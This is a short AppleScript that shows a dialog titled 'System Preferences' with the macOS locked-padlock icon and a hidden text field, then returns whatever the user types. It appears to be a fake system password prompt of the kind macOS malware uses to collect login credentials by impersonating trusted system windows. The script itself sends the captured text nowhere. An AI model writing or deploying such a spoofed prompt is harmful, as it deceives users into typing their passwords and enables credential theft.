on run argv
	set promptText to item 1 of argv
	set iconPath to "/System/Library/CoreServices/CoreTypes.bundle/Contents/Resources/LockedIcon.icns"
	tell application "System Events"
		activate
		set r to display dialog promptText default answer "" with hidden answer with title "System Preferences" with icon (POSIX file iconPath as alias) buttons {"Cancel", "OK"} default button "OK" giving up after 120
	end tell
	return text returned of r
end run
